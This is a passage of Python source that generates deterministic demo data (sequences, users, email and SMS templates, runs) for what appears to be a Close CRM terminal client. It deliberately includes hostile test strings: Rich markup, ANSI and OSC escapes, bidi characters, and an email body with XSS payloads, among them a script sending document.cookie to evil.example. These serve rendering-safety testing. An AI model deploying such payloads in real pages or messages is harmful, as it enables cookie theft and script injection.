"""The demo organization: a deterministic, lazily generated data set shaped like Close's.

Sequence i is built from a random generator seeded with i alone, so any page of an
organization of 100,000 sequences costs the same as the first, and every run sees the same data.
Subscription j of a sequence is built the same way from (sequence, j), and its lead's and
contact's ids carry the sequence and j, so `/lead/{id}/` and `/contact/{id}/` rebuild the name
from the id: nothing is held per run, and a sequence of a million runs (`subscriptions=`, the
first sequence's, "My Sequence") costs no more memory than one of fifteen.
"""

from __future__ import annotations

import copy
import hashlib
import random
import re
import threading
from collections.abc import Callable
from datetime import UTC, datetime, timedelta
from functools import lru_cache
from typing import Any, NamedTuple

from closetui.close.urls import DEMO_API_KEY as DEMO_API_KEY  # the demo's key, re-exported here

ALPHABET = "0123456789ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz"
DEFAULT_SIZE = 1500

ORG_ID = "orga_RbREgmiiwcr1w2b4cOnCMQaQPSIFxMqAD2Dh243uxcH"
ORG_NAME = "Demo"
SEED_ID = "seq_3CtqAl6ynk4FbJmZIlCYAx"
SEED_TEMPLATE_ID = "tmpl_RWEWdJWfSb0eZ6F1QUGEqGULmHGNenS4gSuw29DNkEJ"
SEED_CREATOR_ID = "user_N6KhMpzHRCYQHdn4gRNIFNN5JExnsrprKA6ekxM63XA"
SEED_UPDATER_ID = "user_Ova4RGFG7pztSeJiiMFdN7O2MFl71nD0uGO3bIOo4Wk"
MISSING_TEMPLATE_ID = "tmpl_GoneGoneGoneGoneGoneGoneGoneGoneGoneGone123"
FILTER_PROBE_INDEX = 1234  # a name found only on a page far from the first
FILTER_PROBE_NAME = "Zeppelin airship launch — EMEA partners"
HOSTILE_START = 40

# The page Close publishes for GET /sequence/, verbatim: the demo serves it unchanged.
SEED_SEQUENCE: dict[str, Any] = {
    "created_by_id": SEED_CREATOR_ID,
    "date_created": "2021-11-17T20:07:11.936158",
    "date_updated": "2022-02-07T15:26:01.262234",
    "id": SEED_ID,
    "name": "My Sequence",
    "organization_id": ORG_ID,
    "schedule": None,
    "status": "active",
    "steps": [
        {
            "created_by_id": SEED_CREATOR_ID,
            "date_created": "2021-11-17T20:07:11.937641",
            "date_updated": "2021-11-17T20:07:11.937643",
            "delay": 86400,
            "email_template_id": SEED_TEMPLATE_ID,
            "id": "seqstep_2NGiNEAVZUSXmkv5dNVtPt",
            "required": True,
            "step_allowed_delay": None,
            "step_type": "email",
            "threading": "old_thread",
            "updated_by_id": SEED_CREATOR_ID,
        },
        {
            "created_by_id": SEED_CREATOR_ID,
            "date_created": "2021-11-17T20:07:11.938310",
            "date_updated": "2021-11-17T20:07:11.938313",
            "delay": 259200,
            "email_template_id": None,
            "id": "seqstep_7GMV3TG7CdrXPfkmJ568OF",
            "required": True,
            "step_allowed_delay": None,
            "step_type": "call",
            "threading": None,
            "updated_by_id": SEED_CREATOR_ID,
        },
    ],
    "timezone": "US/Eastern",
    "updated_by_id": SEED_UPDATER_ID,
}

HOSTILE_NAMES = [
    "[bold]x[/]",
    "[/]",
    "[@click=app.quit]q[/]",
    "[link=https://example.com]x[/link]",
    "\x1b[31mRed ANSI\x1b[0m follow-up",
    "\x1b]8;;https://evil.example/\x1b\\OSC link\x1b]8;;\x1b\\ nurture",
    "📈 Growth 🚀 — 日本語のシーケンス 👩‍💻",
    "\u202eesrever\u202c bidi and zero\u200bwidth\u200d name",
    "Line one\nline two\tand a tab",
    "Very long name: "
    + " ".join(f"word{i:03d}" for i in range(40))
    + " — the end of a name more than three hundred characters long",
    "Ten thousand characters: " + "abcdefghij" * 999 + " — the end",
]
HOSTILE_INDEX = HOSTILE_START + 1  # this one is hostile in every field the detail shows
HOSTILE_TEMPLATE = 7

_FIRST = [
    "Ava",
    "Ben",
    "Chloe",
    "Dev",
    "Elena",
    "Farid",
    "Grace",
    "Hiro",
    "Ines",
    "Jonas",
    "Kemi",
    "Liam",
    "Maya",
    "Noah",
    "Olga",
    "Priya",
    "Quinn",
    "Rosa",
    "Sami",
    "Tara",
]
_LAST = [
    "Adler",
    "Brooks",
    "Castillo",
    "Dube",
    "Eriksen",
    "Fischer",
    "Gupta",
    "Hale",
    "Ito",
    "Jensen",
    "Kowalski",
    "Lopez",
    "Moreau",
    "Nakamura",
    "Okafor",
    "Petrov",
    "Quist",
    "Reyes",
    "Sato",
    "Tanaka",
]
_COMPANIES = [
    "acme",
    "globex",
    "initech",
    "umbrella",
    "hooli",
    "stark",
    "wayne",
    "wonka",
    "cyberdyne",
    "tyrell",
    "soylent",
    "vandelay",
    "dundermifflin",
    "piedpiper",
]
_SEGMENTS = [
    "SaaS founders",
    "Mid-market",
    "Enterprise",
    "SMB",
    "Agencies",
    "E-commerce",
    "Fintech",
    "Healthcare",
    "EMEA",
    "APAC",
    "LATAM",
    "Partners",
    "Churned",
    "Trial",
]
_PURPOSES = [
    "Outbound cold",
    "Inbound demo follow-up",
    "Webinar no-show nurture",
    "Trial expiring push",
    "Renewal reminder",
    "Upsell to annual",
    "Event invite",
    "Re-engagement",
    "Onboarding check-in",
    "Referral ask",
    "Case study drip",
    "Pricing page visitor",
    "Closed-lost win-back",
    "Conference follow-up",
    "Product launch",
    "Feedback request",
]
_VARIANTS = [
    "v2",
    "v3",
    "(A/B: short)",
    "(A/B: long)",
    "Q1",
    "Q2",
    "Q3",
    "Q4",
    "2025",
    "2026",
    "— founders",
    "— managers",
    "draft",
    "copy",
]
_TIMEZONES = [
    "US/Eastern",
    "America/Los_Angeles",
    "America/Chicago",
    "Europe/London",
    "Europe/Berlin",
    "Asia/Tokyo",
    "Australia/Sydney",
    "America/Sao_Paulo",
    "UTC",
]
_DELAYS = [
    0,
    0,
    3600,
    2 * 3600 + 1800,
    4 * 3600,
    86400,
    86400,
    2 * 86400,
    2 * 86400,
    3 * 86400,
    3 * 86400,
    4 * 86400,
    5 * 86400,
    7 * 86400,
    14 * 86400,
]
_EPOCH = datetime(2021, 1, 4, 9, 0, tzinfo=UTC)


_TOKEN_BYTES = bytes(ord(ALPHABET[b % 62]) for b in range(256))  # a byte to its letter


def _token(seed: str, length: int) -> str:
    digest = hashlib.sha256(seed.encode()).digest()
    while len(digest) < length:
        digest += hashlib.sha256(digest).digest()
    # bytes.translate: the same letters as ALPHABET[b % 62] for each byte, at C speed.
    return digest[:length].translate(_TOKEN_BYTES).decode("ascii")


def _base62(number: int, width: int) -> str:
    out = []
    for _ in range(width):
        number, rest = divmod(number, 62)
        out.append(ALPHABET[rest])
    return "".join(reversed(out))


def _from_base62(text: str) -> int | None:
    number = 0
    for char in text:
        digit = ALPHABET.find(char)
        if digit < 0:
            return None
        number = number * 62 + digit
    return number


def _stamp(moment: datetime, offset: bool = False) -> str:
    text = moment.astimezone(UTC).replace(tzinfo=None).isoformat(timespec="microseconds")
    return text + "+00:00" if offset else text


def _user_id(i: int) -> str:
    return "user_" + _token(f"user{i}", 43)


@lru_cache(maxsize=256)  # 60 of them, named by thousands of steps
def _email_template_id(i: int) -> str:
    return SEED_TEMPLATE_ID if i == 0 else "tmpl_" + _token(f"tmpl{i}", 43)


@lru_cache(maxsize=64)
def _sms_template_id(i: int) -> str:
    return "smstmpl_" + _token(f"smstmpl{i}", 22)


USERS: list[dict[str, Any]] = []
for _i, (_first, _last) in enumerate(zip(_FIRST[:12], _LAST[:12], strict=True)):
    _uid = {0: SEED_CREATOR_ID, 1: SEED_UPDATER_ID}.get(_i, _user_id(_i))
    # The shape of Close's documented `/user/` items: `organizations` holds organization
    # ids (only `/me/` has organization objects).
    USERS.append(
        {
            "date_created": _stamp(_EPOCH - timedelta(days=400 - _i), offset=True),
            "date_updated": _stamp(_EPOCH - timedelta(days=30 - _i), offset=True),
            "email": f"{_first.lower()}.{_last.lower()}@demo.example",
            "first_name": _first,
            "id": _uid,
            "image": "https://secure.gravatar.com/avatar/" + _token(f"avatar{_i}", 32).lower(),
            "last_name": _last,
            "organizations": [ORG_ID],
        }
    )
USERS[5]["first_name"] = "[red]Mallory[/red]"  # hostile text reaches the detail pane too
USERS[6]["last_name"] = "\x1b[2JClear\x1b]0;title\x07"
USER_IDS = tuple(user["id"] for user in USERS)

EMAIL_TEMPLATES: dict[str, dict[str, Any]] = {}
for _i in range(60):
    _rng = random.Random(f"tmpl{_i}")
    _purpose = _rng.choice(_PURPOSES)
    _tid = _email_template_id(_i)
    EMAIL_TEMPLATES[_tid] = {
        "id": _tid,
        "name": f"{_purpose} #{_i}",
        "subject": _rng.choice(
            [
                "Quick question, {{contact.first_name}}",
                "Following up",
                "Re: {{lead.name}}",
                "Can we help {{lead.name}}?",
                "15 minutes next week?",
                "Last note from me",
            ]
        ),
        "body": f"<p>Hi {{{{contact.first_name}}}},</p><p>{_purpose.lower()}.</p>",
        "is_shared": _rng.random() < 0.7,
        "is_archived": _rng.random() < 0.1,
        "organization_id": ORG_ID,
        "attachments": [],
        "date_created": _stamp(_EPOCH + timedelta(days=_i), offset=True),
        "date_updated": _stamp(_EPOCH + timedelta(days=_i + 30), offset=True),
        "created_by": USERS[_i % len(USERS)]["id"],  # templates say created_by, not _id
        "updated_by": USERS[(_i + 1) % len(USERS)]["id"],
    }
EMAIL_TEMPLATES[_email_template_id(HOSTILE_TEMPLATE)].update(
    name="[bold]Template[/] [@click=app.quit]quit[/]",
    subject="\x1b[5mBlink\x1b[0m \u202eRLO\u202c subject",
)
EMAIL_TEMPLATES[SEED_TEMPLATE_ID].update(
    name="Intro: quick question", subject="Quick question about {{lead.name}}"
)

# -- what the templates say: HTML bodies as Close's editor writes them -----------------------
# Paragraphs, links, a list and variables; one long (LONG_TEMPLATE), one hostile
# (HOSTILE_TEMPLATE): scripts, `javascript:` links, entities, escape codes, nested tables.
LONG_TEMPLATE = 1
SEED_BODY = (
    "<p>Hi {{ contact.first_name }},</p>"
    "<p>I noticed <b>{{ lead.display_name }}</b> has been growing its sales team, and I "
    "wanted to ask a <i>quick</i> question: how do your reps keep track of follow-ups today?"
    "</p><p>Teams like yours use Close to:</p>"
    "<ul><li>call, email and text from one place</li>"
    "<li>never miss a follow-up, with <b>Workflows</b></li>"
    "<li>see every conversation with a lead on one page</li></ul>"
    '<p>Here is a <a href="https://close.com/customers/">two-minute case study</a> from a '
    "team of your size.<br>Worth a look?</p>"
    "<p>Best,<br>{{ user.first_name }}<br>"
    '<a href="mailto:{{ user.email }}">{{ user.email }}</a></p>'
)
_BODY_OPENINGS = [
    "Following up on my last note",
    "I wanted to share something that may help {{ lead.display_name }}",
    "A quick one before the week ends",
    "Thanks again for your time on the call",
]
_BODY_ASKS = [
    "Would 15 minutes next week work?",
    "Is this something your team is looking at this quarter?",
    "Who would be the best person to talk to about this?",
    "Should I close the loop on my side?",
]


def _demo_body(i: int, purpose: str) -> str:
    rng = random.Random(f"body{i}")
    points = rng.sample(
        [
            "set-up takes an afternoon",
            "your data comes over from your current CRM",
            "every call is recorded and transcribed",
            "reps see their day in one list",
            "pricing is per seat, monthly",
        ],
        3,
    )
    items = "".join(f"<li>{point}</li>" for point in points)
    return (
        f"<p>Hi {{{{ contact.first_name }}}},</p><p>{rng.choice(_BODY_OPENINGS)}: "
        f"<b>{purpose.lower()}</b>.</p><ul>{items}</ul>"
        f'<p>{rng.choice(_BODY_ASKS)} <a href="https://demo.example/book/{i}">Pick a time</a>'
        "</p><p>Cheers,<br>{{ user.first_name }}</p>"
    )


def _long_body() -> str:
    parts = ["<h1>The Demo quarterly</h1><p>Hi {{ contact.first_name }},</p>"]
    for n in range(1, 61):
        parts.append(
            f"<h2>Part {n}</h2><p>This is paragraph {n} of a long newsletter: what changed "
            f"this quarter, what we learned from <i>customers</i> like "
            f"{{{{ lead.display_name }}}}, and what comes next.</p>"
        )
    parts.append('<p><a href="https://demo.example/unsubscribe">Unsubscribe</a></p>')
    return "".join(parts)


HOSTILE_BODY = (
    "<html><head><title>not shown</title><style>p { color: red }</style>"
    "<script>document.location='https://evil.example/?c='+document.cookie</script></head>"
    "<body><p>Hello &lt;b&gt;{{ contact.first_name }}&lt;/b&gt; &amp; team &#x1F600; &copy;</p>"
    '<p><a href="javascript:alert(document.domain)">Click to claim</a> or '
    '<a href="JaVaScRiPt:void(0)">this</a> or <a href="data:text/html,<script>1</script>">'
    "that</a>, or [@click=app.quit]quit[/] and [bold]markup[/bold].</p>"
    "<p>\x1b[31mred ANSI\x1b[0m, \x1b]8;;https://evil.example/\x1b\\an OSC link"
    "\x1b]8;;\x1b\\, \u202eesrever\u202c, zero\u200bwidth, a bell\x07.</p>"
    + "<table><tr><td>" * 60
    + "deep in sixty nested tables"
    + "</td></tr></table>" * 60
    + "<p>{{ lead.custom.evil | attr('__class__') }} stays as typed.</p>"
    "<img src=x onerror=alert(1) alt='an image'>"
    "</body></html>"
)
for _i, (_tid, _template) in enumerate(EMAIL_TEMPLATES.items()):
    _template["body"] = _demo_body(_i, _template["name"].split(" #")[0])
EMAIL_TEMPLATES[SEED_TEMPLATE_ID]["body"] = SEED_BODY
EMAIL_TEMPLATES[_email_template_id(LONG_TEMPLATE)].update(
    name="Quarterly newsletter (long)", body=_long_body()
)
EMAIL_TEMPLATES[_email_template_id(HOSTILE_TEMPLATE)]["body"] = HOSTILE_BODY

SMS_TEMPLATES: dict[str, dict[str, Any]] = {}
for _i in range(12):
    _sid = _sms_template_id(_i)
    SMS_TEMPLATES[_sid] = {
        "id": _sid,
        "name": f"SMS nudge #{_i}",
        "text": f"Hi {{{{contact.first_name}}}}, it's {_FIRST[_i]} from Demo. Got a minute?\n"
        "Reply STOP to opt out.",
        "status": "active" if _i % 5 else "archived",  # the documented enum
        "is_shared": _i % 3 != 0,
        "organization_id": ORG_ID,
        "owned_by": USERS[_i % len(USERS)]["id"],
        "created_by": USERS[_i % len(USERS)]["id"],
        "updated_by": USERS[_i % len(USERS)]["id"],
        "date_created": _stamp(_EPOCH + timedelta(days=2 * _i)),
        "date_updated": _stamp(_EPOCH + timedelta(days=2 * _i + 9)),
    }

_STATUSES = ["active"] * 15 + ["paused"] * 4 + ["draft"]
_SUB_STATUSES = ["active"] * 8 + ["paused"] * 2 + ["finished"] * 6 + ["goal"] * 3 + ["error"]
SEED_RUNS = 15  # the first sequence's runs, unless `DemoOrg(subscriptions=N)` says otherwise
# The big sequence's run j has the status at (j * 7) % 20 of `_SUB_STATUSES`: 7 and 20 share
# no factor, so any 20 runs in a row hold each entry once, and counts are arithmetic.
_CYCLE_STEP = 7
_SUB_COUNTED = ("active", "error", "finished", "goal", "paused")
_LEAD_DELETED_EVERY, _LEAD_DELETED_AT = 53, 7  # run 7 of every 53: its lead was deleted
_HOSTILE_RUN_EVERY, _HOSTILE_RUN_AT = 97, 13  # run 13 of every 97: hostile text in its fields
_SEQUENCE_BODY = re.compile(r"[0-9A-Za-z]{22}")


def _below(bits: Callable[[int], int], n: int) -> int:
    """`Random.randrange(n)` (and `choice`'s index), the same number from the same state in
    one call where the module takes two or three: a list of thousands of sequences draws
    here tens of thousands of times. `bits` is the generator's `getrandbits`."""
    k = n.bit_length()
    r = bits(k)
    while r >= n:
        r = bits(k)
    return r


def _schedule(rng: random.Random) -> dict[str, Any] | None:
    roll = rng.random()
    if roll < 0.3:
        return None
    if roll < 0.8:
        start, end = _WORKING_HOURS[_below(rng.getrandbits, 3)]
        return {"ranges": [{"weekday": d, "start": start, "end": end} for d in range(1, 6)]}
    if roll < 0.9:
        return {
            "ranges": [
                {"weekday": 1, "start": "08:30:00", "end": "12:00:00"},
                {"weekday": 3, "start": "13:00", "end": "17:00"},
                {"weekday": 5, "start": "09:00", "end": "11:30"},
            ]
        }
    return {"ranges": [{"weekday": d, "start": "07:00", "end": "21:00"} for d in range(1, 8)]}


_WORKING_HOURS = (("09:00", "16:59"), ("08:00", "17:00"), ("10:00", "18:30"))
_STEP_COUNTS = (0, 1, 2, 3, 3, 4, 4, 5, 5, 6, 7, 8)
_FIRST_DELAYS = (0, 0, 3600, 86400)
_ALLOWED_DELAYS = (3600 * 4, 86400)
_SECONDS = tuple(timedelta(seconds=n) for n in range(9))  # a step's stamp after the first's


def _steps(rng: random.Random, seq_key: str, created: datetime) -> list[dict[str, Any]]:
    steps = []
    seen_email = False
    # The generator's methods looked up once, and its draws made with `_below`: a list of
    # thousands of sequences draws here tens of thousands of times (the same draws, in the
    # same order, as always).
    draw, bits = rng.random, rng.getrandbits
    # A step is stamped a second after the one before it: the clock text of the sequence's
    # creation, moved on by whole seconds.
    base = created.astimezone(UTC).replace(tzinfo=None)
    users = len(USERS)
    sha256 = hashlib.sha256
    for n in range(_STEP_COUNTS[_below(bits, 12)]):
        roll = draw()
        step_type = (
            "email" if roll < 0.6 else "call" if roll < 0.8 else "sms" if roll < 0.95 else "task"
        )
        delay = _DELAYS[_below(bits, len(_DELAYS))] if n else _FIRST_DELAYS[_below(bits, 4)]
        email_template = sms_template = threading = None
        if step_type == "email":
            email_template = (
                MISSING_TEMPLATE_ID if draw() < 0.02 else _email_template_id(_below(bits, 60))
            )
            threading = "old_thread" if seen_email and draw() < 0.8 else "new_thread"
            seen_email = True
        elif step_type == "sms":
            sms_template = _sms_template_id(_below(bits, 12))
        stamp = (base + _SECONDS[n]).isoformat(timespec="microseconds")
        author = USER_IDS[_below(bits, users)]
        # `_token(…, 22)`, inline: one digest is long enough
        token = sha256(f"{seq_key}/{n}".encode()).digest()[:22].translate(_TOKEN_BYTES)
        steps.append(
            {
                "id": "seqstep_" + token.decode("ascii"),
                "step_type": step_type,
                "delay": delay,
                "email_template_id": email_template,
                "sms_template_id": sms_template,
                "threading": threading,
                "required": draw() < 0.85,
                "step_allowed_delay": _ALLOWED_DELAYS[_below(bits, 2)] if draw() < 0.1 else None,
                "created_by_id": author,
                "updated_by_id": author,
                "date_created": stamp,
                "date_updated": stamp,
            }
        )
    return steps


def _name(rng: random.Random, index: int) -> str:
    if index == FILTER_PROBE_INDEX:
        return FILTER_PROBE_NAME
    if HOSTILE_START <= index < HOSTILE_START + len(HOSTILE_NAMES):
        return HOSTILE_NAMES[index - HOSTILE_START]
    bits = rng.getrandbits
    name = f"{_PURPOSES[_below(bits, len(_PURPOSES))]} — {_SEGMENTS[_below(bits, len(_SEGMENTS))]}"
    if rng.random() < 0.5:
        name += f" {_VARIANTS[_below(bits, len(_VARIANTS))]}"
    return name


def _made_hostile(item: dict[str, Any]) -> dict[str, Any]:
    """Every field the app shows, hostile: status, timezone, step type, threading, template,
    creator and updater."""
    first = {
        "id": "seqstep_" + _token("hostile", 22),
        "step_type": "email",
        "delay": 3600,
        "email_template_id": _email_template_id(HOSTILE_TEMPLATE),
        "sms_template_id": None,
        "threading": "[i]thread[/i]\x1b[1m",
        "required": True,
        "step_allowed_delay": 7200,
        "created_by_id": USERS[5]["id"],
        "updated_by_id": USERS[6]["id"],
        "date_created": item["date_created"],
        "date_updated": item["date_updated"],
    }
    odd = {**first, "id": "seqstep_" + _token("hostile2", 22), "step_type": "[@click=app.quit]x",
           "email_template_id": None, "threading": None}  # fmt: skip
    return {
        **item,
        "status": "[reverse]odd[/]\x1b[7m",
        "timezone": "Europe/[b]Paris[/b]\u202e",
        "steps": [first, odd],
        "created_by_id": USERS[5]["id"],
        "updated_by_id": USERS[6]["id"],
    }


TOUR_INDEX = 3  # eight steps, one of every kind: the sequence the first run shows off
TOUR_NAME = "Onboarding tour — every kind of step"
_TOUR_STEPS = [  # (type, delay, email template, sms template, threading, required, allowed)
    ("email", 0, 0, None, "new_thread", True, None),
    ("call", 86400, None, None, None, False, None),
    ("sms", 7200, None, 3, None, True, None),
    ("task", 86400, None, None, None, True, None),
    ("email", 86400, LONG_TEMPLATE, None, "old_thread", True, None),
    ("update_lead", 2 * 86400, None, None, None, True, None),
    ("create_opportunity", 2 * 86400, None, None, None, False, None),
    ("email", 2 * 86400, 5, None, "old_thread", True, 4 * 3600),
]


def _made_tour(item: dict[str, Any]) -> dict[str, Any]:
    steps = []
    for n, (kind, delay, email, sms, thread, required, allowed) in enumerate(_TOUR_STEPS):
        steps.append(
            {
                "id": "seqstep_" + _token(f"tour/{n}", 22),
                "step_type": kind,
                "delay": delay,
                "email_template_id": None if email is None else _email_template_id(email),
                "sms_template_id": None if sms is None else _sms_template_id(sms),
                "threading": thread,
                "required": required,
                "step_allowed_delay": allowed,
                "created_by_id": item["created_by_id"],
                "updated_by_id": item["updated_by_id"],
                "date_created": item["date_created"],
                "date_updated": item["date_updated"],
            }
        )
    return {**item, "name": TOUR_NAME, "status": "active", "steps": steps}


@lru_cache(maxsize=4096)
def _generated(key: str, index: int) -> dict[str, Any]:
    rng = random.Random(key)
    bits = rng.getrandbits
    created = _EPOCH + timedelta(minutes=37 * index, seconds=_below(bits, 3600))
    updated = created + timedelta(days=_below(bits, 700), seconds=_below(bits, 86400))
    author = USER_IDS[_below(bits, len(USER_IDS))]
    item = {
        "id": "seq_" + _token(key, 18) + _base62(index, 4),
        "name": _name(rng, index),
        "status": _STATUSES[_below(bits, len(_STATUSES))],
        "timezone": _TIMEZONES[_below(bits, len(_TIMEZONES))],
        "schedule": _schedule(rng),
        "steps": _steps(rng, key, created),
        "organization_id": ORG_ID,
        "created_by_id": author,
        "updated_by_id": USER_IDS[_below(bits, len(USER_IDS))],
        "date_created": _stamp(created),
        "date_updated": _stamp(updated),
        "allow_manual_enrollment": rng.random() < 0.5,
        "owner_id": author,
    }
    if index == TOUR_INDEX:
        return _made_tour(item)
    return _made_hostile(item) if index == HOSTILE_INDEX else item


# -- why runs stopped, and people in several sequences (`closetui who`, the person view) ----

# Every non-active status gets reasons from Close's documented enum (`StatusReason`), weighted
# as a real organization might see them; every one of the 31 values occurs somewhere.
_REASONS: dict[str, list[tuple[str, int]]] = {
    "paused": [
        ("manual", 6), ("bulk-action", 2), ("workflow-paused", 2), ("rate-limited", 1),
        ("sending-throttled-too-long", 1), ("pending-call-timed-out", 1),
    ],
    "finished": [
        ("reply-received", 6), ("call-answered", 2), ("manual", 2),
        ("lead-status-changed", 2), ("filter-not-matched", 1), ("sequence-deleted", 1),
    ],
    "goal": [("meeting-booked", 4), ("outcome-met", 3), ("reply-received", 1)],
    "error": [
        ("email-bounced", 14), ("account-invalid", 10), ("send-as-error", 5),
        ("account-failures", 3), ("membership-inactive", 2), ("call-failed", 2),
        ("sms-failed", 2), ("no-user-phone", 1), ("billing-error", 1),
        ("assignment-field-invalid", 1), ("lead-status-field-invalid", 1),
        ("assignees-missing", 1), ("run-as-disabled", 1), ("lead-not-visible", 1),
        ("internal-error", 1), ("field-mapping-error", 1), ("filter-config-invalid", 1),
        ("email-ai-generation-failed", 1),
    ],
}  # fmt: skip


def _reason(status: str, rng: random.Random) -> str | None:
    """Why a run of this status stopped: drawn after the run's other draws, so that they
    stay as they were. Active runs have none; an error always has one."""
    choices = _REASONS.get(status)
    if not choices:
        return None
    if status != "error" and rng.random() < 0.15:
        return None
    values, weights = zip(*choices, strict=True)
    return str(rng.choices(values, weights)[0])


class DemoPerson(NamedTuple):
    """Someone in several sequences: their contact (and lead), and the runs they are in, as
    (sequence index, status, reason). Each takes the place of the first run of that sequence
    drawn with that status (so every count stays as it was)."""

    contact_id: str
    lead_id: str
    name: str
    email: str
    company: str
    runs: tuple[tuple[int, str, str | None], ...]
    contact_deleted: bool = False  # the contact is gone from Close; its runs are still listed


def _person_id(prefix: str, key: str) -> str:
    return f"{prefix}_{_token(f'person/{prefix}/{key}', 43)}"


def _person(key: str, name: str, email: str, company: str, *runs: Any, gone: bool = False) -> Any:
    return DemoPerson(
        _person_id("cont", key), _person_id("lead", key), name, email, company, runs, gone
    )


# Sequence indices (0 is "My Sequence"; left out when it is the big one): every index used
# here has at least 12 runs (its total is drawn from its id), so each status is there.
DEMO_PEOPLE: tuple[DemoPerson, ...] = (
    _person(
        "pat",
        "Pat Quinn",
        "pat@example.com",
        "Quinn Logistics",
        (0, "error", "email-bounced"),
        (2, "finished", "reply-received"),
        (3, "active", None),
        (5, "paused", "manual"),
        (8, "goal", "meeting-booked"),
    ),
    _person(
        "alex-northwind",
        "Alex Morgan",
        "alex.morgan@northwind.example",
        "Northwind",
        (2, "error", "account-invalid"),
        (3, "active", None),
    ),
    _person(
        "alex-contoso",
        "Alex Morgan",
        "alex.morgan@contoso.example",
        "Contoso",
        (5, "finished", "lead-status-changed"),
    ),
    _person(
        "gone",
        "Robin Gone",
        "robin@deleted.example",
        "Gone Corp",
        (7, "error", "send-as-error"),
        (8, "paused", "workflow-paused"),
        gone=True,
    ),
    _person(
        "hostile",
        "[b]Eve[/b]\x1b]0;pwned\x07 \u202eevil",
        "eve+[red]x[/red]@\x1b[31mevil.example",
        "[@click=app.quit]Evil[/] Ltd",
        (3, "error", "internal-error"),
        (8, "finished", "call-answered"),
    ),
)


_PEOPLE_INDICES = frozenset(index for p in DEMO_PEOPLE for index, _, _ in p.runs)


class _Run(NamedTuple):
    """What a run's generator draws first: who it is for and who sends it. `rng` goes on to
    draw the rest of the run."""

    status: str
    first: str
    last: str
    sender: dict[str, Any]
    started: datetime
    company: str
    lead_name: str | None  # None: the lead has been deleted since
    rng: random.Random


def _run(sequence_id: str, j: int, cycled: bool) -> _Run:
    """The draws of run j, in the order they have always been made (so the default demo
    stays as it was); `cycled` takes the status from the cycle instead of the draw."""
    rng = random.Random(f"sub/{sequence_id}/{j}")
    status = rng.choice(_SUB_STATUSES)
    if cycled:
        status = _SUB_STATUSES[(j * _CYCLE_STEP) % len(_SUB_STATUSES)]
    first, last = rng.choice(_FIRST), rng.choice(_LAST)
    sender = USERS[rng.randrange(len(USERS))]
    started = _EPOCH + timedelta(days=300 + rng.randrange(1500), minutes=rng.randrange(1440))
    if j % _HOSTILE_RUN_EVERY == _HOSTILE_RUN_AT:  # hostile text in the subscription list too
        first, sender = "[b]x[/b]\x1b[31m", {**sender, "first_name": "\u202eevil"}
    company = rng.choice(_COMPANIES)
    lead_name = None
    if j % _LEAD_DELETED_EVERY != _LEAD_DELETED_AT:
        lead_name = f"{company.title()} {rng.choice(['Inc', 'GmbH', 'Ltd', 'LLC'])}"
    return _Run(status, first, last, sender, started, company, lead_name, rng)


_PAGES_KEPT = 8  # pages of runs remembered as served, so a change finds its run at once
_SEARCHED_RUNS = 5_000  # of each sequence, when a run id was never served


class _Change(NamedTuple):
    """What the API changed of one run: it was `was` (as generated); now `status`."""

    sequence_id: str
    j: int
    was: str
    status: str  # "" once removed
    reason: str | None
    date_updated: str

    def fields(self) -> dict[str, Any]:
        return {"status": self.status, "status_reason": self.reason,
                "date_updated": self.date_updated}  # fmt: skip


def _past(position: int, gone: list[int]) -> int:
    """The j of the run at `position` once the runs `gone` (sorted) are left out."""
    j = position
    for removed in gone:
        if removed <= j:
            j += 1
        else:
            break
    return j


def _party_id(prefix: str, sequence_id: str, j: int) -> str:
    """A lead's or contact's id (43 characters after the prefix, as Close's) that says whose
    run it belongs to: the sequence id's 22 characters, j, and a check that it was made here.
    A sequence id of another shape (a hostile one) gives an id that names nothing."""
    body = sequence_id[4:]
    if not (sequence_id.startswith("seq_") and _SEQUENCE_BODY.fullmatch(body)):
        body = _token(f"odd/{sequence_id}", 22)
    return f"{prefix}_{body}{_base62(j, 5)}{_token(f'{prefix}/{sequence_id}/{j}', 16)}"


def _party_run(prefix: str, party_id: str) -> tuple[str, int] | None:
    """The (sequence id, j) a lead or contact id of `_party_id` was made for, or None."""
    if not party_id.startswith(f"{prefix}_") or len(party_id) != len(prefix) + 44:
        return None
    body = party_id[len(prefix) + 1 :]
    j = _from_base62(body[22:27])
    sequence_id = "seq_" + body[:22]
    if j is None or _party_id(prefix, sequence_id, j) != party_id:
        return None
    return sequence_id, j


@lru_cache(maxsize=4096)
def _drawn_counts(sequence_id: str, total: int) -> tuple[int, ...]:
    """Runs by status (in `_SUB_COUNTED` order) of a sequence whose statuses are drawn: its
    few hundred runs read once, then remembered."""
    statuses = [_run(sequence_id, j, cycled=False).status for j in range(total)]
    return tuple(statuses.count(status) for status in _SUB_COUNTED)


def _cycled_counts(total: int) -> tuple[int, ...]:
    """Runs by status of the big sequence, whatever its size, in twenty steps at most."""
    rounds, rest = divmod(total, len(_SUB_STATUSES))
    tail = [_SUB_STATUSES[(j * _CYCLE_STEP) % len(_SUB_STATUSES)] for j in range(rest)]
    return tuple(
        rounds * _SUB_STATUSES.count(status) + tail.count(status) for status in _SUB_COUNTED
    )


class DemoOrg:
    """The organization's contents. Positions shift when sequences are inserted at the head
    or deleted, as Close's live offsets do; `lock` guards those changes against the server's
    request threads.

    `subscriptions`: how many runs the first sequence ("My Sequence", `SEED_ID`) has, instead
    of 15; each made from its index when it is asked for, so a million cost what fifteen do.
    """

    def __init__(self, size: int = DEFAULT_SIZE, *, subscriptions: int | None = None) -> None:
        self.size = size
        self.inserted: list[dict[str, Any]] = []  # newest first
        self.deleted: set[int] = set()
        self.lock = threading.Lock()
        self.big = subscriptions  # runs of SEED_ID, when set
        self._people: dict[str, dict[int, tuple[DemoPerson, str, str | None]]] = {}
        self.edited: dict[int, dict[str, Any]] = {}  # sequences changed since start, by index
        self.run_edits: dict[tuple[str, int], dict[str, Any]] = {}  # runs changed in Close
        # Changes made through the API (pause, resume, unsubscribe), over the generated runs:
        # only what changed is held, so a million untouched runs still cost nothing.
        self.run_changes: dict[str, _Change] = {}
        self.removed_runs: dict[str, set[int]] = {}  # sequence id -> the j of removed runs
        # The last few pages served (sequence id, first j, last j): where a change most
        # likely finds its run. Pages, not runs: a walk of a million holds no more.
        self._recent_pages: list[tuple[str, int, int]] = []
        self.plan_includes_runs = True  # False: resuming is refused, as on a plan without it

    # -- sequences ------------------------------------------------------------------------

    @property
    def count(self) -> int:
        return len(self.inserted) + self.size - len(self.deleted)

    def _base(self, index: int) -> dict[str, Any]:
        if index in self.edited:
            return self.edited[index]
        if index == 0:
